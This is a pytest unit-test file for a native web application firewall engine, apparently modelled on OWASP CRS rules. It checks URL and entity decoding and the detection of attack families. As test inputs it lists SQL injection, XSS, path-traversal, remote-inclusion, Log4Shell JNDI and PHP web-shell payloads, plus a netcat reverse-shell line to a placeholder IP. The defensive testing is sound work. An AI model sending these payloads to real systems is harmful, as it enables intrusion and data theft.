"""WAF engine unit tests on the native build (gcc + ctypes): normalisation and each rule family."""

from __future__ import annotations

import pytest

from tests.filters.native.waf_driver import Decoder, NativeWaf, build

FORM = [("Host", "example.com"), ("Content-Type", "application/x-www-form-urlencoded")]


@pytest.fixture(scope="module")
def waf() -> NativeWaf:
    return NativeWaf(build())


@pytest.fixture(scope="module")
def dec() -> Decoder:
    return Decoder(build())


# ---------------------------------------------------------------- normalisation

def test_url_decoding_is_one_pass_and_handles_percent_u(dec: Decoder) -> None:
    assert dec.url(b"%2527") == b"%27"            # one pass only; the engine loops
    assert dec.url(b"a+b%20c", plus=True) == b"a b c"
    assert dec.url(b"a+b", plus=False) == b"a+b"
    assert dec.url(b"%u003cscript") == b"<script"
    assert dec.url(b"%uff1c") == b"<"             # fullwidth '<' folds to ASCII
    assert dec.url(b"%zz%4") == b"%zz%4"          # malformed escapes stay


def test_html_and_js_entity_decoding(dec: Decoder) -> None:
    assert dec.html(b"&lt;a&gt;&#x3c;&#60;&quot;") == b'<a><<"'
    assert dec.html(b"ja&tab;va&colon;x") == b"ja\tva:x"
    assert dec.html(b"&#13ascript") == b"\rascript"   # ';' is optional
    assert dec.html(b"&ltx") == b"&ltx"               # a prefix of a word is not an entity
    assert dec.js(b"\\u0072equire") == b"require"
    assert dec.js(b"\\x3cscript") == b"<script"
    assert dec.js(b"\\u{61}lert") == b"alert"


def score(waf: NativeWaf, uri: str, headers=None, body=None, method: str = "GET", paranoia: int = 1):
    return waf.inspect(method, uri, headers or [("Host", "example.com")], body, paranoia=paranoia)


def test_repeated_encoding_is_decoded_until_stable(waf: NativeWaf) -> None:
    # triple-encoded "<script>": %253C -> %3C -> <
    s, rules = score(waf, "/?q=%25253Cscript%25253Ealert(1)%25253C/script%25253E")
    assert s >= 5 and 941110 in rules


def test_sql_comments_and_case_do_not_hide_union_select(waf: NativeWaf) -> None:
    s, rules = score(waf, "/?id=1%20UnIoN/**/aLl/*x*/SeLeCt%20password%20FROM%20users")
    assert 942190 in rules


def test_null_bytes_and_whitespace_are_normalised(waf: NativeWaf) -> None:
    s, rules = score(waf, "/?f=..%00/..%00/etc/pass%00wd")
    assert {930100, 930120} <= set(rules)


# ---------------------------------------------------------------- families

ATTACKS = {
    "sqli": ["/?id=7 or 2>1", "/?id=1');waitfor delay '0:0:5'--", "/?u=admin'--",
             "/?q=x' union select null,version()--", "/?id=ascii(substring(password,1,1))",
             "/?s=1;drop table users", "/?id=5::int", "/?u[$ne]=x"],
    "xss": ["/?q=<img src=x onerror=prompt(1)>", "/?u=javascript:alert(document.domain)",
            "/?q=<svg/onload=alert(1)>", "/?q=%3Ciframe%20src%3D//evil%3E", "/?x=document.cookie"],
    "lfi": ["/?page=../../../../etc/shadow", "/?f=..\\..\\windows\\win.ini", "/.git/config"],
    "rfi": ["/?inc=http://10.0.0.5/shell.txt", "/?inc=ftp?", "/?load=https://evil.example/x.php"],
    "rce": ["/?h=example.com;uname -a", "/?c=$(id)", "/?c=|nc -e /bin/sh 1.2.3.4 4444",
            "/?c=`whoami`", "/?c=powershell -encodedcommand abc"],
    "php": ["/?x=<?php system($_GET['c']); ?>", "/?f=php://filter/resource=index",
            "/?d=O:8:\"stdClass\":0:{}", "/?x=base64_decode('aWQ=')"],
    "java": ["/?x=${jndi:ldap://evil/a}", "/?c=java.lang.Runtime", "/?x=${${lower:j}ndi:rmi://e/x}",
             "/?c=org.apache.commons.collections.functors.InvokerTransformer"],
    "generic": ["/?x=require('child_process').exec('id')", "/?__proto__[admin]=1",
                "/?t={{''.__class__.__mro__}}", "/?u=http://169.254.169.254/latest/meta-data/"],
}

BENIGN = ["/", "/index.html?utm_source=news&utm_medium=email", "/search?q=how+to+select+a+union+rep",
          "/search?q=cats+or+dogs", "/p?name=O'Brien", "/blog/2024/05/my-post-title",
          "/api/items?sort=price&order=desc&page=2", "/search?q=1+%2B+1+%3D+2",
          "/s?q=I+love+you+%3C3", "/shop?cat=shoes&size=42&color=red", "/a?email=john.doe@example.com",
          "/docs?q=while+loop+in+python", "/q?text=Please+cat+the+file+later"]


@pytest.mark.parametrize("family,uri", [(f, u) for f, us in ATTACKS.items() for u in us])
def test_attack_classes_are_blocked(waf: NativeWaf, family: str, uri: str) -> None:
    s, rules = score(waf, uri.replace(" ", "%20"))
    assert s >= 5, (uri, rules)
    assert family in {waf.family(r) for r in rules}, (uri, rules)


@pytest.mark.parametrize("uri", BENIGN)
def test_ordinary_requests_score_zero(waf: NativeWaf, uri: str) -> None:
    s, rules = score(waf, uri.replace(" ", "%20"))
    assert s == 0, (uri, rules)


def test_protocol_violations(waf: NativeWaf) -> None:
    assert 911100 in waf.inspect("TRACK", "/", [("Host", "a")])[1]
    s, rules = waf.inspect("GET", "/", [("User-Agent", "x")])
    assert 920280 in rules and s == 3          # missing Host alone is a warning
    _, rules = waf.inspect("POST", "/", [("Host", "a"), ("Content-Length", "3"), ("Transfer-Encoding", "chunked")], "a=b")
    assert 920181 in rules
    _, rules = waf.inspect("GET", "/?a=1%0d%0aContent-Length:%200", [("Host", "a")])
    assert 921120 in rules


def test_scanner_user_agent(waf: NativeWaf) -> None:
    assert 913100 in waf.inspect("GET", "/", [("Host", "a"), ("User-Agent", "sqlmap/1.7")])[1]
    assert waf.inspect("GET", "/", [("Host", "a"), ("User-Agent", "Mozilla/5.0 (X11)")])[0] == 0


def test_bodies_form_json_multipart_xml(waf: NativeWaf) -> None:
    assert waf.inspect("POST", "/", FORM, "a=1&b=<script>alert(1)</script>")[0] >= 5
    js = [("Host", "a"), ("Content-Type", "application/json")]
    assert waf.inspect("POST", "/", js, '{"user": {"name": "x\' OR 1=1--"}}')[0] >= 5
    assert waf.inspect("POST", "/", js, '{"$where": "sleep(100)"}')[0] >= 5   # keys are inspected
    assert waf.inspect("POST", "/", js, '{"name": "Ann", "tags": ["a", "b"]}')[0] == 0
    mp = [("Host", "a"), ("Content-Type", "multipart/form-data; boundary=XyZ")]
    body = ("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n"
            "Content-Type: image/png\r\n\r\nPNG...\r\n--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n"
            "hello\r\n--XyZ--\r\n")
    assert 933110 in waf.inspect("POST", "/", mp, body)[1]
    assert waf.inspect("POST", "/", mp, body.replace("shell.php", "cat.png"))[0] == 0
    xml = [("Host", "a"), ("Content-Type", "application/xml")]
    assert waf.inspect("POST", "/", xml, '<r><a v="${jndi:ldap://e/x}">t</a></r>')[0] >= 5
    # element and attribute names are structure, not data
    assert waf.inspect("POST", "/", xml, '<r><java.lang.Runtime a="1">t</java.lang.Runtime></r>')[0] == 0


def test_paranoia_levels_gate_rules(waf: NativeWaf) -> None:
    # off-site URL in a parameter is a paranoia-1 rule; nothing matches a plain word at any level
    assert waf.inspect("GET", "/?a=hello", [("Host", "a")], paranoia=4)[0] == 0
    assert waf.inspect("GET", "/?next=https://evil.example/", [("Host", "a")], paranoia=1)[0] >= 5
    assert waf.inspect("GET", "/?next=https://a/x", [("Host", "a")], paranoia=1)[0] == 0


@pytest.mark.parametrize("uri,rule", [
    ("/?c=IF /I NOT EXIST C:\\x echo hey", 932120),          # cmd.exe conditional, /I switch
    ("/?c=if \"%VAR%\"==%%A do echo true", 932120),
    ("/?c=if a==b foo", 932120),                              # the whole value is a conditional
    ("/?e=while(!![]);", 934160), ("/?e=while(!null)", 934160),   # constant loop conditions
    ("/?username__startswith=p", 934210), ("/?a__b__isnull=1", 934210),   # ORM lookups in names
])
def test_class_detectors(waf: NativeWaf, uri: str, rule: int) -> None:
    assert rule in score(waf, uri.replace(" ", "%20").replace('"', "%22"))[1]


@pytest.mark.parametrize("uri", [
    "/?q=what if a==b in python",       # a conditional inside prose is not a cmd.exe command line
    "/?e=while(!done)", "/?e=while(!!x)",
    "/?sort__order=asc", "/?q=name__startswith",   # a lookup-looking value, or an unknown lookup
])
def test_class_detectors_stay_precise(waf: NativeWaf, uri: str) -> None:
    assert score(waf, uri.replace(" ", "%20"))[0] == 0


def test_ua_and_headers(waf: NativeWaf) -> None:
    # a dot-file name must end where the word ends: ".env" is not ".environment"
    assert waf.inspect("GET", "/", [("Host", "a"), ("User-Agent", "/test.environment")])[0] == 0
    assert 930120 in waf.inspect("GET", "/?f=../.env", [("Host", "a")])[1]
    # script tags in any non-structural header
    assert 941110 in waf.inspect("GET", "/", [("Host", "a"), ("Remote-Ip", "<script>alert(1)</script>")])[1]
    # a prose mention of a lookup in a text body is not a JSON key
    body = '{"note": "filter by name__startswith please"}'
    assert waf.inspect("POST", "/", [("Host", "a"), ("Content-Type", "text/plain")], body)[0] == 0
    assert 934210 in waf.inspect("POST", "/", [("Host", "a"), ("Content-Type", "text/plain")],
                                 '{"password__startswith": "a"}')[1]


@pytest.mark.parametrize("uri,pl1_rce", [
    ("/?c=;cat /path/file.gz", False),      # English-word commands with arguments: PL2 (932236)
    ("/?c=tar -xzf /tmp/x.tgz /etc", False),
    ("/?c=bash -c \"echo test\"", False),
    ("/?c=;ps", True),                      # ...but a bare one closing the value after a prefix is PL1
    ("/?c=;uname -a", True),                # unambiguous command words stay PL1
    ("/?c=gunzip -c /var/log/x.gz", True),
    ("/?c=python -c x", False),             # an English word at the start of a value...
    ("/?c=python3 -c x", True),             # ...but not with a version suffix
])
def test_command_words_follow_crs_paranoia_split(waf: NativeWaf, uri: str, pl1_rce: bool) -> None:
    q = uri.replace(" ", "%20").replace('"', "%22")
    pl1 = {waf.family(r) for r in score(waf, q)[1]}
    assert ("rce" in pl1) is pl1_rce, (uri, pl1)
    assert 932236 in waf.inspect("GET", q, [("Host", "a")], paranoia=2)[1]


def test_expansion_and_php_call_shapes(waf: NativeWaf) -> None:
    # backticks are a 932230 command prefix, not a 932130 expansion; prose in backticks is no command
    assert score(waf, "/?v=%60hello%20world%60")[0] == 0
    assert 932230 in score(waf, "/?v=%60uname%20-a%60")[1]
    # a bracket glob inside a path name is evasion; a regex character class is not
    assert 932130 in score(waf, "/?s=/etc/%5B!q%5Dasswd")[1]
    assert 932130 not in score(waf, "/?p=%2F%5Ba-z%5D%7B1%2C5%7D%2F")[1]
    # "//" and "#" comments between a PHP function name and its "(" do not hide the call
    assert 933150 in score(waf, "/?f=exec%20%2f%2fx%0d%0a%20%28blah%29")[1]
    assert 933150 in score(waf, "/?f=exec%23%0a%20%28blah%29")[1]
